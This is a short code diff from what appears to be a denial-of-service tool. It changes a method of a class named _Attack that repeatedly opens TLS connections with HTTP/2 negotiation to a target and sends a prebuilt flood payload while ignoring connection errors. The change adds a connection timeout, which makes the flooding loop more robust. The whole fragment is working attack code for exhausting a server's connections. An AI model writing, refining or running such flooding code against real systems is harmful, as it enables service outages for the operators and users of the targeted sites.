@@ -91,7 +91,7 @@ class _Attack:
 
     def _attack(self) -> None:
         while self._goes_on():
-            with connect(self._stage, alpn=("h2",)) as tls:
+            with connect(self._stage, alpn=("h2",), timeout=15) as tls:
                 self.connections += 1
                 with contextlib.suppress(ConnectionError, OSError):
                     tls.sendall(self._flood)
